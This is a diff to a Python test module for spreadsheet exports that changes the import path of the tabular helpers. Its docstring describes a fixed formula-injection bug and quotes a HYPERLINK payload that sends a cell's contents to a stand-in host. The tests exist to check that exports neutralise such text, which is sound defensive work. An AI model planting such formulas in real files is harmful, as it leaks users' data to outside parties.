@@ -3,7 +3,7 @@
 A person named ``=HYPERLINK("http://x.invalid/?"&B2,"点击")`` — or any text starting with = + - @, a tab or a
 carriage return — was written as it is into the CSV exports, and became a live formula in the XLSX exports
 and reports (openpyxl stores a string starting with "=" as a formula). Every CSV and XLSX the service writes
-now goes through ``interop.tabular.csv_chunks`` / ``write_xlsx``, which give such text a leading apostrophe
+now goes through ``kernel.tabular.csv_chunks`` / ``write_xlsx``, which give such text a leading apostrophe
 and store it in XLSX as a string. Each test below reads the file the user gets back, byte for byte.
 
 Where a file's reader strips cells (rosters, status-event files), a leading tab or carriage return cannot
@@ -28,7 +28,7 @@ from openpyxl import load_workbook
 
 from interop import services as interop_services
 from interop.models import RosterImport
-from interop.tabular import FORMULA_PREFIXES, csv_chunks, open_and_unlink, spreadsheet_safe, write_xlsx
+from kernel.tabular import FORMULA_PREFIXES, csv_chunks, open_and_unlink, spreadsheet_safe, write_xlsx
 from tests.factories import synthetic_id_number
 from tests.interop.helpers import approved_enrollment, client_for
 
